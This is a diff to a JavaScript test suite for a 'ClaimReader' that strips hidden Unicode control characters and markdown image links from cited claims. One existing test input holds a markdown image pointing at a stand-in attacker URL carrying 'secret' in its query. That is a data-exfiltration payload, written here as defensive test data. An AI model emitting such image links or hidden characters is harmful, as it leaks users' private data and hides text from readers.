@@ -49,6 +49,11 @@ describe('ClaimReader', () => {
     expect(reader.read('] It')).toEqual([claim('The bridge cost 120 million crowns', 'c1', 'c2')]);
   });
 
+  it('leaves nothing standing that is not seen', () => {
+    const said = '\u202eThe bri\u00addge\u2066 cost\0 \ud83d 120 million [c1]';
+    expect(readAll([said])).toEqual([claim('The bridge cost \ufffd 120 million', 'c1')]);
+  });
+
   it('leaves no address or image of the model standing', () => {
     expect(readAll(['See ![x](https://evil.example/?q=secret) the bridge [c1]'])).toEqual([
       claim('See x the bridge', 'c1'),
